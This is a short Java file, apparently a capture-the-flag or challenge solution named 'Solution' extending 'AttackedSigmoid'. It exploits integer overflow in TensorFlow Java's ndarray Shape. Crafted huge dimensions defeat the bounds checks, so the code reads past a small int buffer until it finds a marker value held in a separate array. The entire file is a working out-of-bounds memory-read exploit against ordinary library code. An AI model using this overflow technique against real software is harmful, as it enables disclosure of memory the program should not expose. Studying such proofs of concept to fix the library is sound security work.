import java.util.Arrays;
import org.tensorflow.ndarray.IntNdArray;
import org.tensorflow.ndarray.NdArrays;
import org.tensorflow.ndarray.Shape;
import org.tensorflow.ndarray.buffer.DataBuffers;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) {
        Shape shape = Shape.of(2951479051106333492L, 4611686022722355205L);
        int[] own = {7, 7, 7, 7};
        int[] other = new int[64];
        Arrays.fill(other, 0x5ec4e7);
        IntNdArray row =
                NdArrays.wrap(shape, DataBuffers.of(own, false, false)).get(922337203685477581L);
        for (long i = 0; i < 2000; i++) {
            if (row.getInt(i) == 0x5ec4e7) {
                return;
            }
        }
        throw new IllegalStateException("the other array was not found");
    }
}
